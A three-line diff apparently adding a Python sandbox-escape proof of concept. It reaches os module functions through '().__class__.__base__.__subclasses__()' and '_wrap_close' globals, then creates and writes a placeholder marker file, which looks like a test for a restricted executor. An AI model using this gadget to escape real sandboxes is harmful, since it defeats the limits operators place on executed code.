@@ -1,0 +1,3 @@
+g = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
+fd = g['open']('MARKER_PATH', 65)
+g['write'](fd, b'x')
